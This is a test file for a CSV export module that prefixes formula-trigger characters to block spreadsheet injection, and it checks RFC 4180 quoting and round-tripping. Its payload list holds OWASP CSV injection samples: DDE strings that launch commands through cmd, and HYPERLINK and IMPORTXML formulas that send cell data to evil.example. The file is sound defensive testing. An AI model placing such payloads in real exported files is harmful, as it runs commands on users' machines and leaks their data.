import { FORMULA_TRIGGER, UTF8_BOM, neutraliseCell, restoreNeutralisedCell, toCsv } from '../../../src/domain/spreadsheet/cellSafety';
import { parseCsv } from '../../../src/domain/spreadsheet/csvParse';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];

/** OWASP CSV injection payloads (inert outside a spreadsheet), plus each trigger character. */
const PAYLOADS = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click for help")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '=1+2";=1+2',
  '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  'DDE("cmd";"/C calc";"!A0")A0',
  ...TRIGGERS.map((trigger) => `${trigger}anything`),
];

describe('neutraliseCell', () => {
  it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))('prefixes a cell starting with %s with an apostrophe', (_name, trigger) => {
    expect(neutraliseCell(`${trigger}SUM(A1:A9)`)).toBe(`'${trigger}SUM(A1:A9)`);
  });

  it('also catches a trigger hidden behind leading spaces', () => {
    expect(neutraliseCell('   =1+1')).toBe("'   =1+1");
    expect(neutraliseCell('\u00a0@SUM(1)')).toBe("'\u00a0@SUM(1)");
  });

  it('leaves ordinary text alone, including triggers after the first character', () => {
    for (const text of ['EMIS Web', 'a=b', 'Call 0300 123 4567', "'quoted'", '', 'Notes: see -> here']) {
      expect(neutraliseCell(text)).toBe(text);
    }
  });

  it('neutralises the documented trade-off cases (international phone numbers, dashes)', () => {
    expect(neutraliseCell('+44 300 123 4567')).toBe("'+44 300 123 4567");
    expect(neutraliseCell('- none')).toBe("'- none");
  });

  it('is undone exactly by restoreNeutralisedCell, which keeps genuine apostrophes', () => {
    for (const payload of PAYLOADS) expect(restoreNeutralisedCell(neutraliseCell(payload))).toBe(payload);
    expect(restoreNeutralisedCell("'Twas brillig")).toBe("'Twas brillig");
  });
});

describe('toCsv', () => {
  it('writes RFC 4180: CRLF records, quotes around commas, quotes and line breaks, embedded quotes doubled', () => {
    const csv = toCsv([
      ['Service', 'Notes'],
      ['EMIS Web', 'Critical, phone the ICB'],
      ['Docman', 'Say "urgent"\nthen wait'],
    ]);
    expect(csv).toBe('Service,Notes\r\nEMIS Web,"Critical, phone the ICB"\r\nDocman,"Say ""urgent""\nthen wait"\r\n');
  });

  it('neutralises before quoting, as in the OWASP example', () => {
    expect(toCsv([['=1+2";=1+2']])).toBe('"\'=1+2"";=1+2"\r\n');
  });

  it('adds a UTF-8 byte order mark only when asked, and can quote every field', () => {
    expect(toCsv([['a']], { bom: true })).toBe(`${UTF8_BOM}a\r\n`);
    expect(toCsv([['a', 'b']], { quoteAll: true })).toBe('"a","b"\r\n');
    expect(toCsv([])).toBe('');
  });

  it('round-trips through a strict parser: same field count, no cell starting with a trigger, values equal after removing the prefix', () => {
    const rows = [PAYLOADS, ['a,=1+1', 'a";=1+2', 'a\n=1+1', 'plain', '', 'é – “smart” ✓']];
    for (const options of [{}, { bom: true }, { quoteAll: true }]) {
      const parsed = parseCsv(toCsv(rows, options));
      expect(parsed.problem).toBeNull();
      expect(parsed.rows.map((row) => row.length)).toEqual(rows.map((row) => row.length));
      for (const row of parsed.rows) for (const cell of row) expect(FORMULA_TRIGGER.test(cell)).toBe(false);
      expect(parsed.rows.map((row) => row.map(restoreNeutralisedCell))).toEqual(rows);
    }
  });
});
